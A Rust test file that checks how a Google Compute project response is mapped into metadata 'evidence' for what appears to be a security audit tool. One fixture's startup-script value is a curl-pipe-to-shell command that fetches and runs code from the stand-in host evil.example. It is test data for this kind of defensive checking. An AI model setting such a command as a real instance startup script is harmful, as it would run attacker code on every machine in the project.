//! `projects.get` mapping: a response shaped like Google's `compute#project` (documented fields,
//! `uint64` id as a string, URL-safe fingerprint, quotas) deserialised into the client library's model
//! and mapped to the project's common instance metadata.

use google_cloud_compute_v1::model::Project;

use super::*;
use crate::test_fixtures::keys;

fn project(json: serde_json::Value) -> Project {
    serde_json::from_value(json).unwrap()
}

#[test]
fn common_instance_metadata_maps_keys_values_fingerprint_and_number() {
    let body = serde_json::json!({
        "kind": "compute#project",
        "id": "18446744073709551000",
        "creationTimestamp": "2026-10-01T02:00:00.000-07:00",
        "name": "bob-project",
        "description": "",
        "commonInstanceMetadata": {
            "kind": "compute#metadata",
            "fingerprint": "o-P3cNLV6_Q=",
            "items": [
                { "key": "startup-script", "value": "#!/bin/sh\ncurl evil.example | sh\n" },
                { "key": "enable-oslogin", "value": "TRUE" },
                { "key": "empty-value" }
            ]
        },
        "quotas": [ { "metric": "SNAPSHOTS", "limit": 5000.0, "usage": 1.0 } ],
        "selfLink": "https://www.googleapis.com/compute/v1/projects/bob-project",
        "defaultServiceAccount": "493201784516-compute@developer.gserviceaccount.com",
        "xpnProjectStatus": "UNSPECIFIED_XPN_PROJECT_STATUS",
        "defaultNetworkTier": "PREMIUM",
        "vmDnsSetting": "ZONAL_ONLY"
    });
    let evidence = project_evidence(&project(body)).unwrap();
    assert_eq!(evidence.project, "bob-project");
    assert_eq!(
        evidence.project_number.as_deref(),
        Some("18446744073709551000")
    );
    assert_eq!(evidence.metadata_fingerprint, "o-P3cNLV6_Q=");
    assert_eq!(
        keys(&evidence.metadata),
        ["empty-value", "enable-oslogin", "startup-script"]
    );
    assert_eq!(evidence.metadata["enable-oslogin"], "TRUE");
    assert_eq!(evidence.metadata["empty-value"], "");
    assert!(evidence.metadata["startup-script"].contains("curl evil.example"));
}

#[test]
fn a_project_without_metadata_items_has_an_empty_map() {
    // Google omits `items` (and the whole object on new projects) when nothing is set.
    for body in [
        serde_json::json!({ "kind": "compute#project", "name": "p", "id": "1" }),
        serde_json::json!({
            "kind": "compute#project", "name": "p", "id": "1",
            "commonInstanceMetadata": { "kind": "compute#metadata", "fingerprint": "AAAAAAAAAAA=" }
        }),
    ] {
        let evidence = project_evidence(&project(body)).unwrap();
        assert!(evidence.metadata.is_empty());
    }
}

#[test]
fn a_project_without_a_name_is_malformed() {
    let err =
        project_evidence(&project(serde_json::json!({ "kind": "compute#project" }))).unwrap_err();
    assert_eq!(err.api, API_PROJECTS_GET);
    assert_eq!(
        err.kind,
        tokendist_core::evidence::FetchErrorKind::Malformed
    );
}
